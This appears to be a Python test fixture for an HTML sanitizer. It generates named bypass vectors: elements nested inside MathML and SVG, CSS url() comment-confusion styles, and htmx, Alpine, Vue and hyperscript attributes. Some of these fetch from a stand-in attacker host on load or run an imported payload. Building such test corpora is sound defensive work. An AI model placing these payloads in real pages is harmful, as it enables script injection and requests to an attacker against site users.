"""Further kinds: HTML that begins again in formulas, words that end in an address, attributes that wake anything."""

from itertools import product

from hostile.payloads import EVIL, RUN

#: What an element of HTML may not have, wherever it stands.
POINTS = {
    "popover": '<p id="p" popover>字</p><button popovertarget="p">字</button>',
    "command": '<button command="show-popover" commandfor="p">字</button>',
    "edit": "<b contenteditable>字</b>",
    "key": '<a href="index.md" accesskey="s">字</a>',
    "focus": '<b tabindex="0" autofocus>字</b>',
    "attribution": f'<img src="a.png" attributionsrc="//{EVIL}/" alt="">',
    "title": "<title>字</title>",
    "form": '<button form="f" type="submit">字</button>',
    "interest": '<a href="index.md" interestfor="p">字</a>',
    "slot": '<b slot="s">字</b>',
    "custom": '<b is="x-y">字</b>',
    "field": '<input type="checkbox" form="f">',
    "name": '<set attributename="href" to="x">字</set>',
}

#: What begins the word that only ends in `url(`: the text that begins in its brackets ends after
#: what another reader takes for a comment.
WORDS = {
    "word": "x",
    "upper": "X-",
    "hash": "#",
    "at": "@",
    "number": "1",
    "minus": "-",
    "line": "_",
    "letter": "é",
    "character": "字",
    "twice": "url",
}

#: What does something on a drawing, a formula, or a part of one.
WAKING = (
    'accesskey="s"',
    'autofocus tabindex="0"',
    "popover",
    "contenteditable",
    f'attributionsrc="//{EVIL}/"',
    'popovertarget="p"',
    'command="close" commandfor="p"',
    'interestfor="p"',
    f'hx-get="//{EVIL}/" hx-trigger="load"',
    f'@click="{RUN}"',
    f':href="{RUN}"',
    f'x-init="{RUN}"',
    f'v-on:click="{RUN}"',
    f'_="on load {RUN}"',
)
ELEMENTS = {
    "drawing": '<svg {}><path d="M0"/></svg>',
    "part": '<svg><g {}><path d="M0"/></g></svg>',
    "formula": "<math {}><mi>x</mi></math>",
    "letter": "<math><mi {}>x</mi></math>",
}


def waking_vectors() -> dict[str, str]:
    """Return the vectors by their names."""
    points, parts = ("mi", "mo", "mn", "ms", "mtext"), ("title", "desc")
    found = {
        f"point-{point}-{name}": f"<div><math><{point}>{html}</{point}></math></div>"
        for point, (name, html) in product(points, POINTS.items())
    }
    for name in parts:
        found[f"point-{name}"] = f"<div><svg><{name}><b popover>字</b></{name}></svg></div>"
    for name, word in WORDS.items():
        style = f"width: {word}url(# 'a)/*'); position: fixed; inset: 0; x: '*/"
        found[f"word-{name}"] = f'<p style="{style}">字</p>'
    for (name, element), attributes in product(ELEMENTS.items(), WAKING):
        first = attributes.split("=")[0].split()[0]
        found[f"wake-{name}-{first}"] = f"<div>{element.format(attributes)}</div>"
    found["wake-data"] = f'<p data-hx-get="//{EVIL}/" data-hx-trigger="load">字</p>'
    return found
